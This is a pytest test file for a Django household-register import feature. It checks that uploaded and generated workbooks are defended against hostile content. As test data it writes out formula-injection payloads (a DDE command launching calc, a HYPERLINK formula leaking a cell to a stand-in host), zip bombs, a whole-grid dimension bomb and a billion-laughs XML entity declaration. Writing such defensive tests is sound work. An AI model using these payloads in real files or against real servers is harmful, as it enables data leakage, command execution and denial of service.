"""Workbooks that could harm the people who open them, or the server that reads them (issue 7).

Written workbooks never carry a live formula from user input; uploads are refused on their
declared sizes before anything is unpacked, read by the rows they hold whatever dimension they
declare, bounded in rows, and a damaged or hostile XML part is a clear refusal that is recorded.
"""

import io
import random
import re
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import load_workbook

from resettlement.households.models import Household
from resettlement.imports.models import ImportBatch, ImportOutcome
from resettlement.imports.registers import households_import
from tests.factories import make_project, synthetic_id_number
from tests.workbooks import (
    HOUSEHOLD_HEADER,
    SHEET_PART,
    household_row,
    inline_row,
    raw_register,
    register,
    sheet_xml,
    upload_register,
    with_part,
    with_parts,
)

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://x?d="&D3,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1",
    "@SUM(1)",
    "-2+3",
    "＝1+1",
)


@pytest.fixture
def project():
    return make_project("QLS", entitlement_basis="area", area_ratio=Decimal(1))


@pytest.fixture
def staff(project, personas, login):
    """The selection supervisor, assigned to the project: may import its registers."""
    personas["supervisor"].projects.add(project)
    return login("supervisor")


def page_text(response) -> str:
    return response.content.decode()


def formulas_in(content: bytes) -> list[str]:
    """Every <f> element in every sheet part of a workbook: what a spreadsheet would run."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    return [
        name
        for name in archive.namelist()
        if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
    ]


class TestWrittenWorkbooks:
    def test_formula_payloads_come_back_as_text_in_the_error_workbook(
        self, project, staff, django_capture_on_commit_callbacks
    ):
        number = synthetic_id_number()
        bad_id = number[:17] + ("1" if number[17] != "1" else "2")  # wrong check digit
        # Text cells, as a spreadsheet program saves what is typed after an apostrophe.
        rows = "".join(
            inline_row(n + 1, household_row(project, n, head_name=payload, head_id_number=bad_id))
            for n, payload in enumerate(PAYLOADS, start=1)
        )
        content = raw_register(sheet_xml(inline_row(1, HOUSEHOLD_HEADER) + rows))
        upload_register(staff, project, content, capture=django_capture_on_commit_callbacks)
        batch = ImportBatch.objects.get()
        report = staff.get(reverse("imports:error-report", args=[batch.pk]))
        assert report.status_code == 200
        assert formulas_in(report.content) == []
        annotated = load_workbook(io.BytesIO(report.content))["住户"]
        for row, payload in enumerate(PAYLOADS, start=2):
            cell = annotated.cell(row=row, column=3)
            assert cell.data_type == "s", payload
            assert cell.value == payload and cell.quotePrefix, payload  # as typed after a '

    def test_names_from_users_in_the_template_are_text(self, staff, project):
        project.name = '=HYPERLINK("http://x","y")'
        project.save()
        village = project.villages.order_by("code").first()
        village.name = '=1+1,"村'
        village.save()
        response = staff.get(reverse("imports:template", args=[project.code, "households"]))
        assert formulas_in(response.content) == []
        workbook = load_workbook(io.BytesIO(response.content))
        title = workbook["住户"]["A1"]
        assert title.data_type == "s" and title.quotePrefix
        assert title.value.startswith("=HYPERLINK")
        choices = {cell.value: cell for row in workbook["选项"].iter_rows() for cell in row}
        assert choices['=1+1,"村'].quotePrefix, "offered as the village is named, as text"
        assert workbook["选项"].sheet_state == "hidden"


class TestDeclaredDimension:
    """A 4.8 KB sheet declaring A1:XFD1048576 with one cell in its last row ran 30 s and got
    the worker killed; the command line did not finish in 180 s. The declared dimension is not
    trusted; a cell really written in the last row and column would make the reader allocate
    the whole grid (550 GB, an abort), so such a sheet is refused from its scan, at once."""

    def declaring(self, rows: str) -> bytes:
        return raw_register(sheet_xml(rows, dimension="A1:XFD1048576"))

    def bomb(self, rows: str) -> bytes:
        last = inline_row(1_048_576, ["x"], first_column=16_384)
        return raw_register(sheet_xml(rows + last, dimension="A1:XFD1048576"))

    @pytest.mark.timeout(60)
    def test_a_register_declaring_the_whole_grid_imports_the_rows_it_holds(
        self, project, staff, django_capture_on_commit_callbacks
    ):
        rows = inline_row(1, HOUSEHOLD_HEADER) + inline_row(2, household_row(project, 1))
        content = self.declaring(rows)
        assert len(content) < 6000
        response = upload_register(
            staff, project, content, capture=django_capture_on_commit_callbacks
        )
        assert "已导入 1 条记录" in page_text(response)
        assert Household.objects.filter(project=project).count() == 1

    @pytest.mark.timeout(60)
    def test_the_command_line_reports_the_rows_it_holds_and_finishes(
        self, project, tmp_path, capsys
    ):
        rows = inline_row(1, HOUSEHOLD_HEADER) + inline_row(
            2, household_row(project, 1, phone="12")
        )
        path = tmp_path / "bomb.xlsx"
        path.write_bytes(self.declaring(rows))
        with pytest.raises(CommandError, match="1 处错误，未导入任何数据"):
            call_command("import_households", "QLS", str(path))
        assert "第2行，E列（联系电话）" in capsys.readouterr().err
        assert ImportBatch.objects.get().outcome == ImportOutcome.REJECTED

    @pytest.mark.timeout(30)
    def test_a_cell_in_the_last_row_and_column_is_refused_at_once(
        self, project, staff, django_capture_on_commit_callbacks
    ):
        rows = inline_row(1, HOUSEHOLD_HEADER) + inline_row(2, household_row(project, 1))
        response = upload_register(
            staff, project, self.bomb(rows), capture=django_capture_on_commit_callbacks
        )
        assert response.status_code == 422
        assert "单元格从 A1 一直延伸到 XFD1048576" in page_text(response)
        assert not Household.objects.filter(project=project).exists()


class TestZipBombs:
    def bomb(self, megabytes: int) -> bytes:
        """A small zip whose sheet part unpacks to `megabytes` MB of XML."""
        padding = " " * (megabytes * 1024 * 1024)
        return raw_register(sheet_xml(inline_row(1, HOUSEHOLD_HEADER) + padding))

    def test_a_zip_unpacking_past_the_limit_is_refused_without_unpacking(
        self, project, staff, django_capture_on_commit_callbacks
    ):
        content = self.bomb(60)
        assert len(content) < 200_000
        tracemalloc.start()
        try:
            response = upload_register(
                staff, project, content, capture=django_capture_on_commit_callbacks
            )
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert "超过 50 MB 的上限，未予打开" in page_text(response)
        assert peak < 20 * 1024 * 1024  # the 60 MB part was never unpacked
        assert ImportBatch.objects.get().outcome == ImportOutcome.REJECTED

    def test_a_part_compressed_far_beyond_any_workbook_is_refused(self, project):
        result = households_import(
            project=project, file=io.BytesIO(self.bomb(10)), filename="bomb.xlsx"
        )
        (error,) = result.errors
        assert re.match(r"文件中的 xl/worksheets/sheet1\.xml 压缩比为 \d+ 倍", error.message)
        assert result.batch.outcome == ImportOutcome.REJECTED

    def test_a_file_over_the_size_limit_is_refused_before_reading(self, project, settings):
        settings.IMPORT_MAX_MB = 1
        content = register(HOUSEHOLD_HEADER, [household_row(project, 1)])
        noise = random.Random(7).randbytes(1_200_000)  # does not compress
        padded = with_part(content, "xl/media/padding.bin", noise)
        result = households_import(project=project, file=io.BytesIO(padded), filename="big.xlsx")
        assert [error.message for error in result.errors] == ["文件超过 1 MB。"]

    def test_a_zip_of_more_parts_than_any_workbook_is_refused_unopened(self, project):
        parts = {f"xl/media/p{number}.bin": b"" for number in range(1000)}
        content = with_parts(register(HOUSEHOLD_HEADER, [household_row(project, 1)]), parts)
        result = households_import(project=project, file=io.BytesIO(content), filename="x.xlsx")
        assert re.match(
            r"文件包含 10\d\d 个部件，超过任何工作簿应有的数量", result.errors[0].message
        )

    def test_an_upload_over_the_size_limit_is_refused_by_the_form_and_not_stored(
        self, project, staff, settings, django_capture_on_commit_callbacks
    ):
        settings.IMPORT_MAX_MB = 1
        content = random.Random(7).randbytes(1_200_000)
        response = upload_register(
            staff, project, content, capture=django_capture_on_commit_callbacks
        )
        assert response.status_code == 422
        assert "文件超过 1 MB。" in page_text(response)
        assert not ImportBatch.objects.exists()


class TestRowLimit:
    @pytest.mark.timeout(120)
    def test_a_200000_row_upload_is_refused_by_the_row_limit(
        self, project, staff, django_capture_on_commit_callbacks
    ):
        rows = "".join(inline_row(n, [f"QLS-{n:06d}", "张三"]) for n in range(2, 200_002))
        content = raw_register(sheet_xml(inline_row(1, HOUSEHOLD_HEADER) + rows))
        response = upload_register(
            staff, project, content, capture=django_capture_on_commit_callbacks
        )
        assert response.status_code == 422
        assert "每次最多导入 20000 行" in page_text(response)
        batch = ImportBatch.objects.get()
        assert batch.outcome == ImportOutcome.REJECTED
        assert not Household.objects.filter(project=project).exists()

    def test_a_flood_of_blank_rows_is_refused_after_a_bounded_read(self, project, settings):
        settings.IMPORT_MAX_ROWS = 100  # so at most 2 × 100 + 10,000 rows are read
        blank = "".join(f'<row r="{n}"/>' for n in range(3, 30_000))
        rows = inline_row(1, HOUSEHOLD_HEADER) + inline_row(2, household_row(project, 1)) + blank
        result = households_import(
            project=project, file=io.BytesIO(raw_register(sheet_xml(rows))), filename="x.xlsx"
        )
        assert [error.message for error in result.errors] == [
            "“住户”表超过 10200 行，其中大多是空行或只设置了格式的行。"
            "请删除数据下方的空行（或把数据复制到新工作簿）后重试。"
        ]

    def test_rows_up_to_the_limit_are_imported(self, project, settings):
        settings.IMPORT_MAX_ROWS = 3
        content = register(HOUSEHOLD_HEADER, [household_row(project, n) for n in range(1, 4)])
        result = households_import(project=project, file=io.BytesIO(content), filename="x.xlsx")
        assert result.ok and result.created == 3


class TestMalformedXml:
    """ParseError was a 500 and left no import record."""

    @pytest.mark.parametrize(
        ("part", "data"),
        [
            (SHEET_PART, sheet_xml(inline_row(1, HOUSEHOLD_HEADER)).replace(b"</sheetData>", b"")),
            (
                SHEET_PART,
                sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>&nope;</t></is></c></row>'),
            ),
            ("xl/workbook.xml", b'<?xml version="1.0"?><workbook>&nope;</workbook>'),
        ],
        ids=["broken-sheet", "undefined-entity-in-sheet", "undefined-entity-in-workbook"],
    )
    def test_broken_xml_is_a_clear_refusal_with_a_record(
        self, project, staff, django_capture_on_commit_callbacks, part, data
    ):
        content = with_part(register(HOUSEHOLD_HEADER, [household_row(project, 1)]), part, data)
        response = upload_register(
            staff, project, content, capture=django_capture_on_commit_callbacks
        )
        assert response.status_code == 422
        assert "工作簿已损坏，无法读取" in page_text(response)
        batch = ImportBatch.objects.get()
        assert batch.outcome == ImportOutcome.REJECTED
        assert "工作簿已损坏" in batch.first_errors[0]["message"]

    def test_entity_declarations_are_refused_unread(self, project):
        laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'
        sheet = sheet_xml(inline_row(1, ["&lol2;"]), prolog=laughs)
        result = households_import(
            project=project, file=io.BytesIO(raw_register(sheet)), filename="lol.xlsx"
        )
        assert [error.message for error in result.errors] == [
            "文件中的 xl/worksheets/sheet1.xml 含有 XML 文档类型声明（DOCTYPE），"
            "电子表格软件从不写入此类内容，文件已被拒绝。"
        ]
